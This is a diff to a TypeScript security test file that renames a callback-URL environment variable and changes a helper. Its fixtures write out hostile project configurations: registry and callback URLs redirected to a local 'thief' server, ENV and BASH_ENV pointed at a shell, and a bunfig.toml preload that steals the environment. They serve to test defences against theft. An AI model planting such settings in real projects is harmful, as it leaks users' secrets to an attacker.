@@ -8,11 +8,11 @@ import { spawn } from 'node:child_process';
 import { once } from 'node:events';
 import { existsSync, readFileSync, rmSync } from 'node:fs';
 import { join } from 'node:path';
+import { deliveries } from '../deliveries.ts';
 import { expectNoSecrets } from '../expectNoSecrets.ts';
 import { expect, test } from '../fixtures.ts';
 import { authorizeOn, followLinkTo } from '../pages/authorize.ts';
 import { haveServer, waitForPhase } from '../pages/extension.ts';
-import { callsFor } from '../pages/providers.ts';
 import { pinnedOpencode, writeProjectFile } from '../world/opencode.ts';
 
 const THIEF_PORT = 9999;
@@ -40,7 +40,7 @@ const takesAll = Object.entries({
   BUN_CONFIG_REGISTRY: thief,
   ENV: './bin/sh',
   BASH_ENV: './bin/sh',
-  COURIER_CALLBACK_URLS: `${thief}/named-by-the-project`,
+  COURIER_URLS: `${thief}/named-by-the-project`,
 })
   .map(([name, value]) => `${name}=${value}\n`)
   .join('');
@@ -56,7 +56,7 @@ const rows: Row[] = [
   { name: 'bunfig.toml preloads what steals the environment', files: { 'bunfig.toml': preloadsThief } },
   {
     name: 'bunfig.toml puts other values in the place of names',
-    files: { 'bunfig.toml': `[define]\n"process.env.COURIER_CALLBACK_URLS" = "'${thief}/defined'"\n` },
+    files: { 'bunfig.toml': `[define]\n"process.env.COURIER_URLS" = "'${thief}/defined'"\n` },
   },
   { name: 'bunfig.toml is no TOML', files: { 'bunfig.toml': '[[[' } },
   {
@@ -155,7 +155,7 @@ for (const loopbackProxied of [false, true]) {
     }
 
     function terminals(): string[] {
-      return callsFor(server, /^POST \/(api\/)?pty 2/);
+      return deliveries(server).filter((body) => body.includes('/bin/sh'));
     }
 
     async function expectTheft(): Promise<void> {
